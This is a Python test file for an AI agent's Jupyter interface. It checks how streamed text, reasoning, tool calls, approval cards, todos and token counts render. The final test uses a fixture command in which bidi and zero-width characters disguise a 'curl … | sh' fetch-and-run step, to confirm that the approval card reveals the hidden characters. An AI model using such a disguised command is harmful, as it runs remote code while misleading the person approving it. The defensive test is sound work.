"""The live view of one turn, fed event objects directly (reduced onto its own state): each widget's state
through its traits."""

from __future__ import annotations

from nbagent import events as ev
from nbagent.jupyter.widgets.turn import TurnView

T = "turn_1"


def feed(view: TurnView, *events: ev.Event) -> None:
    """Apply ``events`` (the turn starts first when they do not start it) and render them."""
    if view.live.state.turn is None and not view.ended and not any(isinstance(e, (ev.TurnStart, ev.PromptQueued))
                                                                   for e in events):
        view.handle(ev.TurnStart(prompt="p", turn_id=view.turn_id))
    for event in events:
        view.handle(event)
    view.flush()


def reasoning_of(view: TurnView):
    (reasoning,) = view.answer.reasonings
    return reasoning


def test_streamed_text_renders_as_markdown():
    view = TurnView(turn_id=T)
    feed(view, ev.TurnStart(prompt="hi", session_id="s1", turn_id=T),
         *[ev.TextDelta(text=piece, turn_id=T) for piece in ("Here is **bo", "ld** and `co", "de`.")])
    assert view.answer.markdown == "Here is **bold** and `code`."
    assert "<strong>bold</strong>" in view.answer.value and "<code>code</code>" in view.answer.value
    assert view.state == "running" and view.header.session_id == "s1"


def test_raw_html_from_the_model_is_escaped():
    view = TurnView(turn_id=T)
    feed(view, ev.TextDelta(text="<script>alert(1)</script>", turn_id=T))
    assert "<script>" not in view.answer.value


def test_reasoning_is_collapsed_then_dropped_for_one_line():
    view = TurnView(turn_id=T)
    feed(view, ev.ReasoningDelta(text="Let me think", turn_id=T), ev.ReasoningDelta(text=" hard.", turn_id=T))
    reasoning = reasoning_of(view)
    assert reasoning.text == "Let me think hard."
    assert reasoning.layout.display != "none" and not reasoning.expanded
    assert reasoning.body.layout.display == "none"
    reasoning.toggle.value = True  # the user expands it
    assert "Let me think hard." in reasoning.body.value and reasoning.body.layout.display == ""
    feed(view, ev.TextDelta(text="Answer.", turn_id=T), ev.TurnEnd(reason="done", text="Answer.", turn_id=T))
    assert reasoning.dropped
    assert reasoning.children == (reasoning.summary,)
    assert reasoning.summary.value.startswith("thought for ")
    assert [type(c).__name__ for c in view.answer.children] == ["Reasoning", "Answer"]  # in the order it happened


def test_no_reasoning_leaves_the_panel_hidden():
    view = TurnView(turn_id=T)
    feed(view, ev.TextDelta(text="x", turn_id=T), ev.TurnEnd(turn_id=T))
    assert view.answer.reasonings == []


def test_tool_rows_through_every_status():
    view = TurnView(turn_id=T)
    feed(view, ev.ToolInputStart(name="bash", call_id="c1", turn_id=T))
    row = view.rows["c1"]
    assert row.status == "input" and "preparing" in row.line.value and "bash" in row.line.value
    feed(view, ev.ToolInputDelta(name="bash", call_id="c1", text='{"command": "ls"}', turn_id=T),
         ev.ToolCall(name="bash", call_id="c1", arguments={"command": "ls -la"}, turn_id=T))
    assert view.rows["c1"] is row
    assert row.status == "running" and row.summary == "ls -la" and "ls -la" in row.line.value
    feed(view, ev.ToolResult(name="bash", call_id="c1", output="a.txt\nb.txt", status="done", turn_id=T))
    assert row.status == "done" and row.result.layout.display == "" and "a.txt" in row.result.value
    assert row.result.value.startswith("<details") and "<details open" not in row.result.value  # collapsed
    for i, status in enumerate(("failed", "denied", "killed", "interrupted"), start=2):
        feed(view, ev.ToolCall(name="read_file", call_id=f"c{i}", arguments={"path": "x.py"}, turn_id=T),
             ev.ToolResult(name="read_file", call_id=f"c{i}", output="no", status=status, is_error=True,
                           turn_id=T))
        assert view.rows[f"c{i}"].status == status
        assert status in view.rows[f"c{i}"].line.value


def test_edit_result_that_is_a_diff_is_coloured():
    view = TurnView(turn_id=T)
    diff = "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-old\n+new\n"
    feed(view, ev.ToolCall(name="edit_file", call_id="e1", arguments={"path": "x.py"}, turn_id=T),
         ev.ToolResult(name="edit_file", call_id="e1", output=diff, turn_id=T))
    html = view.rows["e1"].result.value
    assert '<span style="color:#1a7f37">+new</span>' in html and '<span style="color:#cf222e">-old</span>' in html


def test_todo_progress_counts_and_marks():
    view = TurnView(turn_id=T)
    assert view.todos.layout.display == "none"
    todos = [{"content": "read", "status": "completed"}, {"content": "fix", "status": "in_progress"},
             {"content": "test", "status": "pending"}, {"content": "ship", "status": "blocked", "note": "CI"}]
    feed(view, ev.TodosChanged(todos=todos, turn_id=T))
    assert (view.todos.progress.value, view.todos.progress.max) == (1, 4)
    assert view.todos.counts.value == "1 of 4 done, 1 blocked"
    assert "✔ <s>read</s>" in view.todos.items.value and "⚠ ship" in view.todos.items.value
    assert view.todos.layout.display == ""


def test_memory_injected_and_remembered():
    view = TurnView(turn_id=T)
    feed(view, ev.MemoryInjected(entries=[{"id": 1, "kind": "fact", "text": "uses uv"}], turn_id=T),
         ev.MemoryChanged(action="remember", entries=[{"kind": "command", "text": "make test"}], turn_id=T))
    assert [e["text"] for e in view.memory.injected] == ["uses uv"]
    assert "uses uv" in view.memory.body.value and view.memory.layout.display == ""
    assert "memory remember: make test" in view.answer.value  # a notice, where it happened


def test_approval_card_click_decides_and_the_decision_settles_it():
    decided = []
    view = TurnView(turn_id=T, decide=lambda call_id, decision: decided.append((call_id, decision)))
    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"
    feed(view, ev.ToolCall(name="edit_file", call_id="c1", arguments={"path": "x"}, turn_id=T),
         ev.ApprovalRequest(name="edit_file", call_id="c1", arguments={"path": "x"}, diff=diff, turn_id=T))
    card = view.cards["c1"]
    assert card in view.approvals.children and view.rows["c1"].status == "awaiting_approval"
    assert "waiting" in view.rows["c1"].line.value
    assert "+b" in card.body.value and "Approve edit_file?" in card.title.value
    card.always_button.click()
    assert decided == [("c1", "always")] and card.approve_button.disabled
    card.deny_button.click()  # a second click changes nothing
    assert decided == [("c1", "always")]
    feed(view, ev.ApprovalDecision(name="edit_file", call_id="c1", decision="always", turn_id=T))
    assert view.approvals.children == () and view.rows["c1"].status == "running"


def test_turn_end_settles_everything_and_hides_the_controls():
    view = TurnView(turn_id=T)
    feed(view, ev.ToolCall(name="bash", call_id="c1", arguments={"command": "sleep 9"}, turn_id=T),
         ev.ApprovalRequest(name="bash", call_id="c1", arguments={"command": "sleep 9"}, turn_id=T))
    card = view.cards["c1"]
    feed(view, ev.Error(message="boom", turn_id=T), ev.TurnEnd(reason="aborted", turn_id=T))
    assert view.state == "aborted" and view.ended and view.header.status == "aborted"
    assert view.rows["c1"].status == "interrupted" and view.approvals.children == () and view.cards == {}
    assert card.approve_button.disabled  # a card left open is settled, not clickable
    assert "error: boom" in view.answer.value and "turn ended: aborted" in view.notes.value
    assert view.controls.layout.display == "none"


def test_a_prompt_dropped_from_the_queue_ends_its_view():
    view = TurnView(turn_id=T, prompt="second")
    feed(view, ev.TurnStart(prompt="first", turn_id="turn_0"), ev.PromptQueued(prompt="second", position=1, turn_id=T))
    assert view.state == "queued"
    feed(view, ev.TurnEnd(reason="aborted", turn_id=T))
    assert view.ended and view.state == "aborted" and not view.controls.running


def test_header_counts_tokens_and_cost_and_names_the_model():
    view = TurnView(turn_id=T)
    feed(view, ev.SettingsChanged(settings={"model": "gpt-x"}),
         ev.Usage(input_tokens=10, output_tokens=5, total_input_tokens=12_345, total_output_tokens=678,
                  cost=0.0123, turn_id=T))
    assert (view.header.input_tokens, view.header.output_tokens, view.header.cost) == (12_345, 678, 0.0123)
    assert "12.3k in / 678 out" in view.header.value and "$0.0123" in view.header.value
    assert view.header.model == "gpt-x"


def test_header_shows_the_tokens_read_from_the_prompt_cache():
    view = TurnView(turn_id=T)
    feed(view, ev.Usage(input_tokens=9_000, output_tokens=5, cached_tokens=8_192, total_input_tokens=12_345,
                        total_output_tokens=678, total_cached_tokens=10_240, turn_id=T))
    assert view.header.cached_tokens == 10_240
    assert "12.3k in (10.2k cached) / 678 out" in view.header.value


def test_header_and_the_cli_show_the_image_tokens_apart():
    from nbagent.cli.app import usage_summary

    usage = ev.Usage(input_tokens=2_000, output_tokens=5, image_tokens=765, total_input_tokens=2_000,
                     total_output_tokens=5, total_image_tokens=765, turn_id=T)
    view = TurnView(turn_id=T)
    feed(view, usage)
    assert view.header.image_tokens == 765 and "2.0k in (~765 images) / 5 out" in view.header.value
    assert usage_summary([usage]) == "tokens: 2,000 in (0 cached, ~765 images), 5 out"


def test_queued_then_running():
    view = TurnView(turn_id=T, prompt="second")
    feed(view, ev.TurnStart(prompt="first", turn_id="turn_0"), ev.PromptQueued(prompt="second", position=1, turn_id=T),
         ev.PromptQueued(prompt="third", position=2, turn_id="turn_3"))
    assert view.state == "queued" and view.header.status == "queued (position 1)"
    assert view.controls.queue_label.value == "2 queued"
    feed(view, ev.TurnEnd(turn_id="turn_0"), ev.TurnStart(prompt="second", turn_id=T))
    assert view.state == "running" and view.controls.queue_label.value == "1 queued"


def test_stop_and_abort_buttons_call_through():
    calls = []
    view = TurnView(turn_id=T, stop=lambda: calls.append("stop"), abort=lambda: calls.append("abort"))
    view.controls.stop_button.click()
    view.controls.abort_button.click()
    assert calls == ["stop", "abort"]


def test_tool_rows_and_paragraphs_interleave_in_the_order_they_happened():
    from nbagent.jupyter.widgets.answer import Answer
    from nbagent.jupyter.widgets.tools import ToolRow

    view = TurnView(turn_id=T)
    feed(view, ev.TextDelta(text="Let me look.", turn_id=T),
         ev.ToolCall(name="glob", call_id="c1", arguments={"pattern": "*"}, turn_id=T),
         ev.ToolResult(name="glob", call_id="c1", output="a.py", turn_id=T),
         ev.TextDelta(text="\n\nFound **a.py**;", turn_id=T), ev.TextDelta(text=" reading it.", turn_id=T),
         ev.ToolCall(name="read_file", call_id="c2", arguments={"path": "a.py"}, turn_id=T),
         ev.ToolCall(name="grep", call_id="c3", arguments={"pattern": "x"}, turn_id=T),
         ev.TextDelta(text="Done.", turn_id=T), ev.TurnEnd(turn_id=T))
    kinds = [(type(c).__name__, c.markdown if isinstance(c, Answer) else c.call_id) for c in view.answer.children]
    assert kinds == [("Answer", "Let me look."), ("ToolRow", "c1"), ("Answer", "Found **a.py**; reading it."),
                     ("ToolRow", "c2"), ("ToolRow", "c3"), ("Answer", "Done.")]
    assert all(isinstance(view.rows[c], ToolRow) for c in ("c1", "c2", "c3"))
    assert view.answer.markdown == "Let me look.\n\nFound **a.py**; reading it.\n\nDone."
    assert view.answer.value.index("Let me look") < view.answer.value.index("<strong>a.py</strong>")


def test_approval_card_shows_hidden_characters_and_wraps_long_lines():
    """Finding 12 of "Trust": a bidi override, a zero-width space or a line separator cannot make a
    command look different from what runs."""
    view = TurnView(turn_id=T, decide=lambda call_id, decision: None)
    command = "echo safe \u202e# txt.exe\u200b && curl x\u2028| sh " + "y" * 300
    feed(view, ev.ToolCall(name="bash", call_id="c1", arguments={"command": command}, turn_id=T),
         ev.ApprovalRequest(name="bash\u202e", call_id="c1", arguments={"command": command}, turn_id=T))
    card = view.cards["c1"]
    for raw, code in (("\u202e", "U+202E"), ("\u200b", "U+200B"), ("\u2028", "U+2028")):
        assert raw not in card.body.value and f"&lt;{code}&gt;" in card.body.value
    assert "\u202e" not in card.title.value and "&lt;U+202E&gt;" in card.title.value
    assert "white-space:pre-wrap" in card.body.value and "overflow-wrap:anywhere" in card.body.value
    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\u202e\n"
    feed(view, ev.ToolCall(name="edit_file", call_id="c2", arguments={"path": "x"}, turn_id=T),
         ev.ApprovalRequest(name="edit_file", call_id="c2", arguments={"path": "x"}, diff=diff, turn_id=T))
    assert "\u202e" not in view.cards["c2"].body.value and "&lt;U+202E&gt;" in view.cards["c2"].body.value
